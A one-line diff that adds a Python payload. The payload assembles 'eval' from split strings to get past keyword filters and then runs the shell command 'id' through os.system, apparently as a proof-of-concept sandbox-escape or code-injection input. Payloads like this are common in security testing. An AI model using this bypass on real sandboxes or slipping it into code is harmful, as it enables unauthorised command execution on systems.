@@ -1,0 +1,1 @@
+__builtins__['ev' + 'al']("__import__('os').system('id')")
